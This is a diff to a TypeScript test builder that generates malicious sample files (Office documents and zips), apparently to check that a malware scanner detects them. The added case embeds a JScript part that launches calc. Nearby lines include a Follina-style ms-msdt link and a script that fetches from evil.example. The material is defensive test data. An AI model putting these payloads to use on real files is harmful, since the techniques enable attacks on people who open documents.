@@ -204,6 +204,7 @@ async function build(): Promise<MaliciousFile[]> {
     malware('docx with an ms-msdt external link (Follina)', 'cv.docx', docx({ documentRels: `<Relationship Id="rId9" Type="${R}/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>` }), /protocol/),
     malware('docx with an executable embedded', 'notes.docx', docx({ extra: [{ name: 'word/embeddings/oleObject1.bin', data: Buffer.concat([Buffer.alloc(512, 0x20), peExecutable()]) }] }), /oleObject1\.bin.*PE/),
     malware('docx with a script disguised as an image', 'memo.docx', docx({ extra: [{ name: 'word/media/image1.png', data: text('<script>fetch("http://evil.example")</script>') }] }), /image1\.png.*script/),
+    malware('docx with a JScript part', 'report.docx', docx({ extra: [{ name: 'word/embeddings/run.js', data: text('var s = new ActiveXObject("WScript.Shell"); s.Run("calc");') }] }), /script inside an Office document/),
     malware('docx with macros', 'budget.docx', docx({ extra: [{ name: 'word/vbaProject.bin', data: Buffer.alloc(64, 1) }] }), /macros/),
     malware('zip with an .exe', 'photos.zip', buildZip([{ name: 'IMG_0001.jpg.exe', data: text('not really a program') }]), /Windows would run/),
     malware('zip with a script named .jpg', 'pics.zip', buildZip([{ name: 'pics/cat.jpg', data: text('#!/usr/bin/env python3\nimport os\n') }]), /disguised/),
